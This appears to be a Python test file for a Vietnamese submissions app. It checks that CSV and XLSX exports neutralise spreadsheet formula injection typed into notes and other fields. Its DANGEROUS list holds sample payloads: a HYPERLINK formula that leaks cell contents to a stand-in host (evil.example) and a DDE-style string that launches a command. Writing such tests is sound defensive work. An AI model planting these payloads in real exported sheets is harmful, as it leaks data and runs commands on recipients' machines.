"""Issue 10.6: text typed by anyone (a note, a reply, a file name) never runs as a formula in an exported sheet."""

import csv
import io

from openpyxl import load_workbook

from app.accounts.models import Role
from app.exports import Column, csv_text, xlsx_bytes
from app.submissions import service

DANGEROUS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3",
             "\t=1+1", "\r=1+1"]


def test_every_dangerous_cell_is_defused_in_csv():
    text = csv_text(["nội dung"], [[d] for d in DANGEROUS] + [["Bình thường"], [42]])
    assert text.startswith("\ufeff")
    cells = [row[0] for row in csv.reader(io.StringIO(text[1:]))][1:]
    assert cells[:len(DANGEROUS)] == ["'" + d for d in DANGEROUS]
    assert cells[len(DANGEROUS):] == ["Bình thường", "42"]


def test_xlsx_stores_dangerous_text_as_text_and_totals_as_our_formula():
    data = xlsx_bytes("Báo cáo", [Column("Cơ quan", 30), Column("Số lượng", 10, "#,##0")],
                      [[DANGEROUS[0], 3], ["Sở Y tế", 4]], totals=["Tổng", ("=SUM", 1)])
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet["A2"].value == DANGEROUS[0] and sheet["A2"].data_type == "s"
    assert sheet["A1"].font.bold and sheet.freeze_panes == "A2"
    assert sheet["B4"].value == "=SUM(B2:B3)"


def test_the_audit_export_escapes_a_formula_typed_in_a_note(client, login_as, submit, db, make_account):
    item = submit()
    officer = make_account("so-khcn", username="note-writer")
    service.add_note(session=db, submission=item, actor=officer, text=DANGEROUS[0])
    db.commit()
    login_as("so-khcn", Role.COORDINATOR)
    r = client.get(f"/officer/items/{item.tracking_code}/audit.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    cells = [cell for row in rows for cell in row]
    assert "'" + DANGEROUS[0] in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
